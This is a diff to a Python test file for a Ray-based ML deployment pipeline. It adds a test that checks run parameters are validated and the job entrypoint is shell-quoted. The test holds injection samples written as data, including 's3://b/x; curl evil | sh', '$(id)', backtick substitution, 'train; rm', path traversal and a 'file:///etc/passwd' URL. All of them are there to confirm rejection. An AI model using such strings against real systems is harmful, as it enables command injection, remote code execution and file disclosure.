@@ -352,10 +352,10 @@ def test_a_failed_load_is_rolled_back_through_a_conflict_and_waits_for_ready(fak
     original, svc = _rayservice()
     fake["api"] = api = FakeApi({("rayservices", "streamrec-serve"): svc},
                                 [_ready(7), _ready(7), {"observedGeneration": 8}, _ready(8)], conflicts=1)
-    problem = "ranker: ranker artifact s3://new/ranker: ValueError: unsupported artifact format"
+    problem = "ranker: artifact failed to load (ValueError)"
     healthz = FakeServe(lambda n: health("r1", "q1", *([problem] if api.patches else []))).start()
     try:
-        with pytest.raises(RuntimeError, match="deploy failed: ranker: ranker artifact s3://new/ranker") as err:
+        with pytest.raises(RuntimeError, match="deploy failed: ranker: artifact failed to load") as err:
             pipeline.update_serving.python_func(namespace="ns", rayservice="streamrec-serve",
                                                 ranker_artifact="s3://new/ranker", retriever_artifact="s3://new/q",
                                                 healthz_url=healthz.url, poll_s=0, timeout_s=60)
@@ -411,10 +411,10 @@ def test_a_rollback_the_api_server_refuses_is_reported_not_raised(fake):
         return step_patch(group, version, namespace, plural, name, body)
 
     api.patch_namespaced_custom_object = patch
-    problem = "retriever: retriever artifact s3://new/q: OSError: no such key"
+    problem = "retriever: artifact failed to load (OSError)"
     healthz = FakeServe(lambda n: health("r1", "q1", *([problem] if api.patches else []))).start()
     try:
-        with pytest.raises(RuntimeError, match=f"deploy failed: {problem}") as err:
+        with pytest.raises(RuntimeError, match=re.escape(f"deploy failed: {problem}")) as err:
             pipeline.update_serving.python_func(namespace="ns", rayservice="streamrec-serve",
                                                 ranker_artifact="s3://new/ranker", retriever_artifact="s3://new/q",
                                                 healthz_url=healthz.url, poll_s=0, timeout_s=60)
@@ -422,3 +422,42 @@ def test_a_rollback_the_api_server_refuses_is_reported_not_raised(fake):
         healthz.stop()
     assert "could NOT be restored (ApiException" in str(err.value)
     assert "'retriever': 's3://old/retriever'" in str(err.value)
+
+
+def test_parameters_are_checked_and_the_entrypoint_quoted(fake):
+    """The review's finding: run_stage appended `--artifact <artifact_dir>` to the RayJob's entrypoint, which
+    the submitter runs through a shell, unquoted; a run argument could add commands. Every component now refuses
+    values outside their form before any API call (names, locations, URLs, numbers), and the entrypoint carries
+    the artifact as one quoted word."""
+    import shlex
+
+    fake["api"] = api = FakeApi({("rayjobs", "streamrec-train"): TEMPLATE},
+                                [{"jobDeploymentStatus": "Complete", "jobStatus": "SUCCEEDED"}])
+    pipeline.run_stage.python_func(stage="train", namespace="ns", run_id="r1", poll_s=0,
+                                   artifact_dir="s3://bucket/artifacts/run-1/ranker")
+    words = shlex.split(api.created[0]["spec"]["entrypoint"])
+    assert words[-2:] == ["--artifact", "s3://bucket/artifacts/run-1/ranker"]
+    api.created.clear()
+    bad_run_stage = [
+        {"artifact_dir": "s3://b/x; curl evil | sh"}, {"artifact_dir": "s3://b/$(id)"}, {"artifact_dir": "--help"},
+        {"artifact_dir": "s3://b/../other"}, {"stage": "train; rm"}, {"stage": "deploy"},
+        {"namespace": "ns --all"}, {"namespace": "NS"}, {"timeout_s": -1},
+    ]
+    for bad in bad_run_stage:
+        args = {"stage": "train", "namespace": "ns", "run_id": "r1", "poll_s": 0, **bad}
+        with pytest.raises(ValueError, match=next(iter(bad))):
+            pipeline.run_stage.python_func(**args)
+    assert api.created == []  # refused before anything was created
+    for bad in ({"artifact_root": "s3://b/a`id`"}, {"artifact_root": "/x/../y"}, {"run_id": "a/b"}):
+        with pytest.raises(ValueError, match=next(iter(bad))):
+            pipeline.artifact_paths.python_func(**{"artifact_root": "s3://b/a", "run_id": "r1", **bad})
+    for bad in ({"namespace": "a,b"}, {"rayjob": "x,job-name!=y"}):
+        with pytest.raises(ValueError, match=next(iter(bad))):
+            pipeline.ingested_events.python_func(**{"namespace": "ns", "rayjob": "streamrec-ingest-r1", **bad})
+    serving = {"namespace": "ns", "rayservice": "streamrec-serve", "ranker_artifact": "s3://b/r",
+               "retriever_artifact": "s3://b/q"}
+    for bad in ({"rayservice": "Serve"}, {"ranker_artifact": "s3://b/r?x=1"}, {"retriever_artifact": "a b"},
+                {"healthz_url": "file:///etc/passwd"}, {"healthz_url": "http://h/x?q=1"}, {"confirm_reads": 0}):
+        with pytest.raises(ValueError, match=next(iter(bad))):
+            pipeline.update_serving.python_func(**{**serving, **bad})
+    assert api.patches == []
